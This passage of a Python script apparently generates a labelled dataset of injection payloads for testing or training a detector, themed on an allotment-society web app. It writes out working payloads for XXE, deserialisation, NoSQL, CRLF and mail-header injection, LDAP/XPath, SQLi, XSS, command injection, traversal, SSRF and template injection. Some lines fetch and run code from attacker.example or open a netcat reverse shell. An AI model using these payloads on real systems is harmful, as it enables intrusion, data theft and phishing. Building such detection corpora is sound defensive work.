xxe-billion-laughs ¦ <!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;&d;&d;</l>
xxe-svg-upload ¦ <?xml version="1.0"?><!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&f;</text></svg>
xxe-php-expect ¦ <!DOCTYPE r [<!ENTITY e SYSTEM "expect://id">]><r>&e;</r>
yaml-python-apply-system ¦ rota: !!python/object/apply:os.system ["id"]
yaml-python-subprocess ¦ !!python/object/apply:subprocess.check_output [["cat", "/etc/passwd"]]
yaml-snakeyaml-scriptengine ¦ !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/y.jar"]]]]
pickle-protocol0 ¦ cos␊system␊(S'id'␊tR.
java-serialized-base64 ¦ rO0ABXNyADpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuSW52b2tlclRyYW5zZm9ybWVyh+j/a3t8zjgCAANbAAVpQXJnc3QAE1tMamF2YS9sYW5nL09iamVjdDtMAAtpTWV0aG9kTmFtZXQAEkxqYXZhL2xhbmcvU3RyaW5nOw==
dotnet-jsonnet-objectdataprovider ¦ {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
php-object-injection ¦ O:10:"PlotExport":2:{s:4:"path";s:23:"/var/www/html/shell.php";s:4:"body";s:28:"<?php system($_GET['c']); ?>";}
php-phar-wrapper ¦ phar://uploads/plot14b.jpg/test.txt
node-serialize-iife ¦ {"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}
'''

L["nosqli"] = r'''
login-ne-null ¦ {"$ne": null}
login-gt-empty ¦ {"$gt": ""}
login-object-ne ¦ {"username": "treasurer", "password": {"$ne": "x"}}
query-bracket-ne ¦ password[$ne]=x
query-bracket-regex ¦ plot[$regex]=.*
where-sleep ¦ {"$where": "sleep(5000) || true"}
where-js-string-breakout ¦ Plot 14B'; return true; var x='
where-password-regex ¦ {"$where": "this.password.match(/^a/)"}
regex-email-enum ¦ {"email": {"$regex": "^t.*@hambleton"}}
or-empty-object ¦ {"$or": [{}, {"a": "a"}]}
expr-function-sleep ¦ {"$expr": {"$function": {"body": "function(){sleep(3000);return true}", "args": [], "lang": "js"}}}
query-bracket-exists ¦ token[$exists]=false
aggregate-lookup ¦ [{"$lookup": {"from": "members", "localField": "x", "foreignField": "x", "as": "m"}}]
nin-empty ¦ {"plot": {"$nin": []}}
js-or-true ¦ ' || '1'=='1
couch-mango-gt-null ¦ {"selector": {"_id": {"$gt": null}}}
query-both-ne ¦ username[$ne]=1&password[$ne]=1
where-keys ¦ {"$where": "function(){return Object.keys(this).length>0}"}
regex-any-length ¦ {"password": {"$regex": "^.{0,}"}}
js-and-length ¦ treasurer' && this.password.length > 0 && 'a'=='a
query-bracket-gt ¦ rent[$gt]=0&plot[$ne]=none
where-string-breakout-sleep ¦ WL-2024-0193'; sleep(5000); var y='
query-bracket-in-regex ¦ email[$regex]=^a&email[$options]=i
elemmatch-bypass ¦ {"roles": {"$elemMatch": {"$ne": "member"}}}
'''

L["crlf"] = r'''
header-raw-set-cookie ¦ Plot 14B␍␊Set-Cookie: session=attacker
header-urlencode-set-cookie ¦ rota%0d%0aSet-Cookie:%20admin=1
header-urlencode-location ¦ %0D%0ALocation:%20https://attacker.example/
response-splitting-urlencode ¦ x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
header-unicode-crlf ¦ seeds%E5%98%8A%E5%98%8DSet-Cookie:%20x=1
header-lf-xff ¦ invoice%0aX-Forwarded-For:%20127.0.0.1
header-double-urlencode ¦ rota%250d%250aSet-Cookie:x=1
header-escaped-crlf ¦ Plot 7\r\nX-Injected: 1
log-forging-lf ¦ Trough C fixed␊2024-07-06 10:00:01 INFO user=admin action=login result=success
log-forging-crlf ¦ WL-2024-0193␍␊[2024-07-06 10:02:11] INFO Treasurer approved refund £600 for plot 31
log-forging-access-urlencode ¦ seeds%0a127.0.0.1 - admin [06/Jul/2024:10:00:00 +0000] "GET /admin HTTP/1.1" 200 512
mail-bcc-raw ¦ gwen@example.org␍␊Bcc: everyone@attacker.example
mail-cc-urlencode ¦ gwen@example.org%0ACc:%20list@attacker.example
mail-subject-body ¦ Plot 14B second notice␍␊Bcc: x@attacker.example␍␊␍␊Pay at https://attacker.example/pay to avoid eviction
mail-content-type-lf ¦ Rota reminder␊Content-Type: text/html␊␊<a href="https://attacker.example/">Open rota</a>
mail-to-lf ¦ secretary@hambleton-allotments.example.org␊To: victim@example.com
body-injection-urlencode ¦ invoice%0d%0a%0d%0a<html><a href="https://attacker.example/">Pay</a></html>
log-forging-syslog ¦ plot 36␊Jul  6 10:00:00 allot app[412]: login ok user=treasurer
json-log-forging ¦ Gwen", "level": "ERROR", "msg": "payment reversed", "user": "treasurer
header-json-unicode-escape ¦ Plot 14B\u000d\u000aSet-Cookie: a=b
header-refresh-urlencode ¦ %0d%0aRefresh:%200;url=https://attacker.example/
header-cors-urlencode ¦ %0D%0AAccess-Control-Allow-Origin:%20https://attacker.example
header-bare-cr ¦ rota%0dSet-Cookie:%20sid=1
smtp-smuggling ¦ Hello␍␊.␍␊MAIL FROM:<x@attacker.example>␍␊RCPT TO:<all@example.com>␍␊DATA
mail-headers-reply-to ¦ Rent␍␊X-Priority: 1␍␊Reply-To: treasurer@attacker.example
log-forging-inspection ¦ Plot 7 cleared␊2024-08-14 09:12:00 AUDIT inspector=chair plot=31 result=terminated
'''

L["ldap-xpath"] = r'''
ldap-wildcard-or ¦ *)(uid=*))(|(uid=*
ldap-and-true ¦ treasurer)(&)
ldap-memberof ¦ *)(|(memberOf=cn=committee,ou=groups,dc=hambleton,dc=example))
ldap-password-attr ¦ gwen*)(userPassword=*)
ldap-objectclass ¦ *)(objectClass=*
ldap-nullbyte ¦ admin)(cn=*))%00
ldap-or-password ¦ admin*)((|userPassword=*)
ldap-description-enum ¦ x)(|(description=*treasurer*)
ldap-mail-wildcard ¦ secretary)(|(mail=*@*)
xpath-or-true ¦ ' or 1=1 or 'a'='a
xpath-union-node ¦ '] | //member/password | //x['
xpath-name-probe ¦ ' or name()='members' or 'x'='y
xpath-count ¦ 1' and count(/*)=1 and '1'='1
xpath-string-length ¦ ' or string-length(//member[1]/password)>5 or '
xpath-substring-blind ¦ ' or substring(//member[position()=1]/pass,1,1)='a
xpath-paren-breakout ¦ Mill Road') or ('1'='1
xpath2-doc-oob ¦ ' or doc(concat('http://attacker.example/',name(/*)))/x='' or '
xpath-plot-lookup ¦ 14B' or @role='chair' or 'a'='b
'''

# ---------------------------------------------------------------------------
# Templated part: hand-written theme prefixes x hand-written payloads, or one encoding.
THEME_PREFIXES = [
    "Plot 14B inspection: ", "INV-2024-0117 ", "Rota wk 27 – ", "Seed swap: Sungold x20 ",
    "Minutes item 4.2: ", "WL-2024-0193 ", "Trough C note: ", "Shed sales Sat ",
    "Plot 22a – ", "Re: second notice ",
]

RAW = {
    "sqli": [("prefix-union-select", "' UNION SELECT plot_no, tenant_email FROM plots-- "),
             ("prefix-boolean", "' OR 'x'='x"),
             ("prefix-mysql-sleep", "' AND SLEEP(6)#"),
             ("prefix-mssql-waitfor", "'; WAITFOR DELAY '0:0:5'--"),
             ("prefix-pg-sleep", "' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
             ("union-null+urlencode", "' UNION SELECT NULL,NULL,password FROM members--"),
             ("boolean-numeric+urlencode", "1 AND 1=1 UNION SELECT 1,2"),
             ("stacked-drop+urlencode", "'; DROP TABLE invoices--"),
             ("sleep+double-urlencode", "' OR SLEEP(5)-- -"),
             ("order-by+urlencode", "' ORDER BY 9-- -")],
    "xss": [("prefix-img-onerror", "<img src=x onerror=alert(1)>"),
            ("prefix-svg-onload", "<svg onload=alert(document.cookie)>"),
            ("prefix-script", "<script>alert(document.domain)</script>"),
            ("prefix-iframe-js", "<iframe src=javascript:alert(1)>"),
            ("prefix-details", "<details open ontoggle=alert(1)>"),
            ("img-onerror+urlencode", "<img src=x onerror=alert(1)>"),
            ("script+urlencode", "<script>alert(1)</script>"),
            ("svg+double-urlencode", "<svg onload=alert(1)>"),
            ("body-onload+urlencode", "<body onload=alert(1)>"),
            ("attr-breakout+urlencode", "\"><img src=x onerror=alert(1)>")],
    "cmdi": [("prefix-semicolon-id", "; id"),
             ("prefix-pipe-cat", "| cat /etc/passwd"),
             ("prefix-subshell", "$(curl attacker.example/p|sh)"),
             ("prefix-and-whoami", "&& whoami"),
             ("semicolon-cat+urlencode", "; cat /etc/passwd"),
             ("pipe-nc+urlencode", "| nc 203.0.113.8 4444 -e /bin/sh"),
             ("backtick+urlencode", "`id`"),
             ("windows-and+urlencode", "& type C:\\Windows\\win.ini")],
    "traversal": [("dotdot-passwd+urlencode", "../../../../etc/passwd"),
                  ("dotdot-windows+urlencode", "..\\..\\..\\Windows\\win.ini"),
                  ("dotdot-passwd+double-urlencode", "../../../etc/passwd"),
                  ("dotdot-env+urlencode", "../../../.env"),
                  ("dotdot-shadow+urlencode", "../../../../../etc/shadow"),
                  ("dotdot-webinf+urlencode", "../../WEB-INF/web.xml")],
    "ssrf": [("imds+urlencode", "http://169.254.169.254/latest/meta-data/"),
             ("loopback+urlencode", "http://127.0.0.1:8080/admin"),
             ("file+urlencode", "file:///etc/passwd"),
             ("gopher+urlencode", "gopher://127.0.0.1:6379/_INFO"),
             ("imds+double-urlencode", "http://169.254.169.254/latest/user-data"),
             ("ipv6-loopback+urlencode", "http://[::1]:6379/")],
    "code": [("prefix-jinja2-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
             ("prefix-log4shell", "${jndi:ldap://attacker.example/z}"),
             ("prefix-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
             ("prefix-erb", "<%= `id` %>"),
             ("log4shell+urlencode", "${jndi:ldap://attacker.example/u}"),
             ("jinja2-subclasses+urlencode", "{{''.__class__.__mro__[1].__subclasses__()}}"),
             ("spel+urlencode", "T(java.lang.Runtime).getRuntime().exec('id')"),
             ("csv-dde+urlencode", "=cmd|' /C calc'!A0")],
    "nosqli": [("ne-null+urlencode", "{\"$ne\": null}"),
               ("where-sleep+urlencode", "{\"$where\": \"sleep(3000)\"}"),
               ("gt-empty+urlencode", "{\"$gt\": \"\"}")],
    "crlf": [("prefix-set-cookie-urlencode", "%0d%0aSet-Cookie:%20sid=attacker"),
             ("prefix-bcc-urlencode", "%0d%0aBcc:%20all@attacker.example"),
             ("prefix-log-forge-urlencode", "%0a2024-07-06 10:00:00 INFO admin login ok"),
             ("prefix-location-urlencode", "%0d%0aLocation:%20https://attacker.example/")],
    "ldap-xpath": [("ldap-wildcard+urlencode", "*)(uid=*))(|(uid=*"),
                   ("xpath-or+urlencode", "' or '1'='1")],
}


def encode(cls, payload):
    if cls.endswith("+double-urlencode"):
        return quote(quote(payload, safe=""), safe="")
    if cls.endswith("+urlencode"):
        return quote(payload, safe="")
    raise ValueError(cls)


def literals(cat):
    out = []
    for line in L[cat].split("\n"):
        if not line.strip():
            continue
        cls, val = line.split(SEP, 1)
        out.append((cls.strip(), val.replace(CR, "\r").replace(LF, "\n")))
    return out


def main():
    rng = random.Random(SEED)
    here = os.path.dirname(os.path.abspath(__file__))
    rows = []
    n = 0
    for cat in ORDER:
        items = literals(cat)
        seen = set(v for _, v in items)
        assert len(seen) == len(items), cat
        need = TARGET[cat] - len(items)
        raw = RAW[cat]
        assert 0 <= need <= len(raw), (cat, len(items), need)
        for cls, payload in raw[:need]:
            if cls.startswith("prefix-"):
                v = rng.choice(THEME_PREFIXES) + payload
            else:
                v = encode(cls, payload)
            assert v not in seen, v
            seen.add(v)
            items.append((cls, v))
        for cls, v in items:
            n += 1
            rows.append({"id": "%s-%05d" % (PREFIX, n), "category": cat, "class": cls,
                         "label": "attack", "value": v})
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
